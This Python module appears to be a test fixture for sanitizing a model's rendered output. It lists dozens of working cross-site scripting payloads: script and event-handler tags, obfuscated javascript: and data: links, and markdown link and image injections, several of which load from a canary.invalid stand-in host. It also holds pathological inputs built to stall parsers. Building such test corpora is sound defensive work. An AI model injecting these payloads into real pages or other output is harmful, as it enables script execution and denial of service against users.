"""What a model might say to get its words to run, to load, or to take for ever."""

from __future__ import annotations

__all__ = ["ATTACKS", "CANARY", "SLOW"]

CANARY = "https://canary.invalid"
"""Where a page would call that runs or loads what it must not; nothing answers there."""

RUN = "window.ran=1"
"""What an attack would have a page run."""

_HTML = {
    "script": f"<script>{RUN}</script>",
    "script in capitals": f"<ScRiPt>{RUN}</sCrIpT>",
    "script with a source": f"<script src={CANARY}/a.js></script>",
    "script inside a script": f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    "script that is not closed": f"<script>{RUN}",
    "script with a slash": f"<script/x>{RUN}</script>",
    "script after a null": f"<\0script>{RUN}</script>",
    "module": f"<script type=module>import '{CANARY}/m.js'</script>",
    "image with a handler": f"<img src=x onerror={RUN}>",
    "image without quotes": f"<img src=x onerror={RUN}//",
    "image with slashes": f'<img/src="x"/onerror="{RUN}">',
    "image that calls": f'<img src="{CANARY}/i.png">',
    "image set": f'<img srcset="{CANARY}/s.png 1x">',
    "svg with a handler": f"<svg onload={RUN}>",
    "svg script": f"<svg><script>{RUN}</script></svg>",
    "svg animation": f"<svg><animate onbegin={RUN} attributeName=x dur=1s></svg>",
    "svg use": '<svg><use href="data:image/svg+xml,<svg id=x onload=window.ran=1>#x"></svg>',
    "svg foreign object": f"<svg><foreignObject><img src=x onerror={RUN}></foreignObject></svg>",
    "math": f"<math><mtext></form><form><mglyph><style></math><img src onerror={RUN}>",
    "mutation": f'<noscript><p title="</noscript><img src=x onerror={RUN}>">',
    "template": f"<template><img src=x onerror={RUN}></template>",
    "style": f"<style>@import '{CANARY}/s.css'; body {{ background: url({CANARY}/b) }}</style>",
    "style attribute": f'<p style="background:url({CANARY}/p);position:fixed;inset:0">x</p>',
    "style with a script behind it": f"<style></style><script>{RUN}</script>",
    "link": f'<link rel=stylesheet href="{CANARY}/l.css">',
    "prefetch": f'<link rel=prefetch href="{CANARY}/f">',
    "meta": f'<meta http-equiv=refresh content="0;url={CANARY}">',
    "base": f'<base href="{CANARY}/">',
    "frame": f'<iframe src="javascript:parent.{RUN}"></iframe>',
    "frame of a text": f'<iframe srcdoc="<script>parent.{RUN}</script>"></iframe>',
    "object": f'<object data="{CANARY}/o"></object>',
    "embed": f'<embed src="{CANARY}/e">',
    "video": f'<video src="{CANARY}/v" poster="{CANARY}/p" onerror={RUN}></video>',
    "audio": f"<audio src=x onerror={RUN} autoplay></audio>",
    "source": f"<picture><source srcset={CANARY}/c><img src=x></picture>",
    "form": f'<form action="{CANARY}"><input autofocus onfocus={RUN}><button>Go</button></form>',
    "details": f"<details open ontoggle={RUN}>x</details>",
    "body": f"<body onload={RUN}>",
    "marquee": f"<marquee onstart={RUN}>x</marquee>",
    "anchor with a handler": f'<a href="#" onclick="{RUN}" tabindex=1 autofocus onfocus={RUN}>x',
    "names of the page's own": '<b id="compare" name="prompt">x</b><form id=state></form>',
    "comment": f"<!--><script>{RUN}</script>-->",
    "conditional comment": f"<!--[if gte IE 4]><script>{RUN}</script><![endif]-->",
    "section of XML": f"<![CDATA[<script>{RUN}</script>]]>",
    "instruction": f"<?xml version='1.0'?><?php {RUN} ?><x:script xmlns:x='x'>{RUN}</x:script>",
    "tag that is not closed": f"<img src=x onerror={RUN} title='",
    "attribute that is not closed": f'<a title="<img src=x onerror={RUN}>',
    "end of the page": f"</p></div></article></main></body></html><script>{RUN}</script>",
    "end of the code": f"```\n</code></pre><script>{RUN}</script>\n```",
    "end of a text field": f"</textarea></title></style></template><script>{RUN}</script>",
    "entities": f"&lt;script&gt;{RUN}&lt;/script&gt; &#60;script&#62;{RUN}&#x3c;/script&#x3e;",
    "entities twice": f"&amp;lt;img src=x onerror={RUN}&amp;gt;",
    "characters that are not ASCII's": f"＜script＞{RUN}＜/script＞ \u02c2img onerror={RUN}\u02c3",
    "another encoding": f"+ADw-script+AD4-{RUN}+ADw-/script+AD4- \x1b(B<script>{RUN}</script>",
}

_SCRIPT_LINKS = {
    "plain": f"javascript:{RUN}",
    "capitals": f"JaVaScRiPt:{RUN}",
    "entity": f"&#106;avascript:{RUN}",
    "long entity": f"&#0000106;avascript:{RUN}",
    "hexadecimal entity": f"&#x6A;avascript:{RUN}",
    "entity of the colon": f"javascript&colon;{RUN}",
    "entity of a tab": f"java&Tab;script:{RUN}",
    "entity of a new line": f"java&NewLine;script:{RUN}",
    "percent": f"%6A%61vascript:{RUN}",
    "percent of the colon": f"javascript%3A{RUN}",
    "control character": f"\x01javascript:{RUN}",
    "tab": f"java\tscript:{RUN}",
    "backslash": f"javascript\\:{RUN}",
    "null": f"java\0script:{RUN}",
    "soft hyphen": f"java\u00adscript:{RUN}",
    "zero width": f"\u200bjavascript:{RUN}",
    "two slashes": f"javascript://x/%0a{RUN}",
    "vbscript": "vbscript:x",
    "view-source": f"view-source:javascript:{RUN}",
    "file": "file:///etc/passwd",
    "blob": "blob:null/x",
    "data": f"data:text/html,<script>{RUN}</script>",
    "data in base64": "data:text/html;base64,PHNjcmlwdD53aW5kb3cucmFuPTE8L3NjcmlwdD4=",
    "data that is an svg": f"data:image/svg+xml,<svg onload={RUN}>",
    "data that is a png": "data:image/png;base64,iVBORw0KGgo=",
    "of this service": "/comparisons/x",
    "of this page": "?ask=x#prompt",
    "without a scheme": "//canary.invalid/x",
    "feed": f"feed:javascript:{RUN}",
    "no address": "http://[",
}

_MARKDOWN = {
    **{f"link, {name}": f"[x]({url})" for name, url in _SCRIPT_LINKS.items()},
    **{f"link in angles, {name}": f"[x](<{url}>)" for name, url in _SCRIPT_LINKS.items()},
    **{f"autolink, {name}": f"<{url}>" for name, url in _SCRIPT_LINKS.items()},
    **{f"reference, {name}": f"[x]\n\n[x]: {url}" for name, url in _SCRIPT_LINKS.items()},
    **{f"image, {name}": f"![x]({url})" for name, url in _SCRIPT_LINKS.items()},
    "image": f"![x]({CANARY}/i.png)",
    "image by reference": f"![x][i]\n\n[i]: {CANARY}/i.png",
    "image in a link": f"[![x]({CANARY}/i.png)]({CANARY}/a)",
    "image with a handler in its words": f'![x" onerror="{RUN}]({CANARY}/i.png)',
    "image with a handler in its address": f'![x](https://x/"onerror="{RUN})',
    "title": f"[x](https://x 'y\" onmouseover=\"{RUN}')",
    "words of a link": f"[<img src=x onerror={RUN}>](https://x)",
    "link in a link": f"[a [b](javascript:{RUN}) c](https://x)",
    "address with a quote": f'<https://x/"onmouseover="{RUN}>',
    "address with a tag": f"<https://x/<script>{RUN}</script>>",
    "language": f'```x" onclick="{RUN}\nx\n```',
    "language with a tag": f"```<script>{RUN}</script>\nx\n```",
    "language that is a class of the page's": "```x card danger\nx\n```",
    "code": f"`<script>{RUN}</script>` ``<img src=x onerror={RUN}>``",
    "code that is coloured": f"```html\n<script>{RUN}</script><img src=x onerror={RUN}>\n```",
    "code with a null": f"```python\n'\0<script>{RUN}</script>\n```",
    "heading": f"# <img src=x onerror={RUN}>\n{RUN}\n---",
    "table": f"|<script>{RUN}</script>|b|\n|:-|-:|\n|![x]({CANARY}/t.png)|[x](javascript:{RUN})|",
    "list that begins with a quote": '"1. x\n1234567890. x\n999999999. x',
    "escapes": f"\\<script>{RUN}\\</script> \\![x]({CANARY}/i.png) [x]\\(javascript:{RUN})",
    "nulls": "a\0b **\0** [\0](https://x/\0)",
    "bidirectional": "\u202e[moc.knab](https://x)\u2066\u202d `\u202e} ;nruter` \u2069\u202c",
    "broken surrogates' stand-ins": "\ufffd\uffff\ufeff<\ufeffscript>",
    "line ends of other systems": f"[x](java\rscript:{RUN})\r\n<img\rsrc=x\ronerror={RUN}>\u2028",
    "templates": f"---\nlayout: <script>{RUN}</script>\n---\n{{{{ {RUN} }}}} {{% x %}} ${{{RUN}}}",
}

ATTACKS = {**{f"HTML: {name}": text for name, text in _HTML.items()}, **_MARKDOWN}

LONG = 256 * 1024
"""Bytes: as long as a text may be."""


def _repeated(piece: str) -> str:
    return piece * (LONG // len(piece.encode()))


def _nested_list() -> str:
    return "".join(f"{'  ' * depth}- a\n" for depth in range(500))


SLOW = {
    **{
        repr(piece): _repeated(piece)
        for piece in (
            *("[", "![", "[](", "[a](", "[[]](", "[x][", "](", "*", "**a ", "*a_ ", "_", "a**b*c "),
            *("`", "<", "<a ", "<!--", "&", "&amp", "\\", ">", "> a\n", "#", "|", "~", "~~a ", "-"),
            *("- ", "- a\n", "1. ", "```\n", "    a\n", "a\n", "\n", " ", "\t", "\0", "a@", "(*a"),
            *("http://", "<http://a>", "[a]: b\n", "a\n=\n", "\\\n", "[a](b '", "{", "\u202e", "é"),
        )
    },
    "quotes in quotes": ">" * (LONG - 1) + "a",
    "lists in lists": _nested_list(),
    "ticks of every length": " ".join("`" * n for n in range(1, 700)),
    "a table of empty cells": "|a" * 400 + "|\n" + "|-" * 400 + "|\n" + "|x|\n" * 60_000,
    "references to one that is long": f"[a]: {'b' * 100_000}\n\n" + "[a]" * 30_000,
    "references that are many": "".join(f"[{n}]: /u\n" for n in range(9000)) + "[1] " * 9000,
    **{
        f"code in {language}, {piece!r}": f"```{language}\nint a{_repeated(piece)[:200_000]}!\n```"
        for language in ("c", "python", "html")
        for piece in (" ", "\n", '"', "<a ", "a:", "/*")
    },
    "many blocks of code": _repeated("```python\ndef f(x): return [x for x in 'y']\n```\n"),
}
"""Texts that take a reader long that does not look at the clock; none is longer than it may be."""
